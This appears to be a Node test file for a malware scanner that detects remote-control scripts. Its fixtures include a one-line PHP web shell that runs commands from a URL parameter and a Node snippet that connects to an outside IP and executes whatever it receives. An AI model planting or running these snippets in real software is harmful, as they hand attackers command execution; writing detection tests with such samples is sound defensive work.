import assert from 'node:assert/strict'
import { test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { NODE_BYTES_MAX } from './other-languages.ts'

const { outcome } = useInspector()
const FOUND = 'Docvet.Script.RemoteControl'
const PAGE = '<?php\nsystem($_GET["c"]);\n'
const NODE = `const {exec}=require('child_process');const s=require('net');const net=s;net.connect(1,'203.0.113.5').on('data',d=>exec(d,()=>{}));`

test('a script is judged by its words, however long it is', () => {
  assert.equal(outcome(Buffer.from(PAGE.padEnd(500_000, '\n'))), FOUND)
})

test('a script of Node up to a length, because bundles have all words', () => {
  assert.equal(outcome(Buffer.from(NODE.padEnd(NODE_BYTES_MAX, '\n'))), FOUND)
  assert.equal(outcome(Buffer.from(NODE.padEnd(NODE_BYTES_MAX + 1, '\n'))), undefined)
})

test('an article about it is not', () => {
  assert.equal(outcome(Buffer.from(`A page that runs what a visitor sends:\n${PAGE}`)), undefined)
})
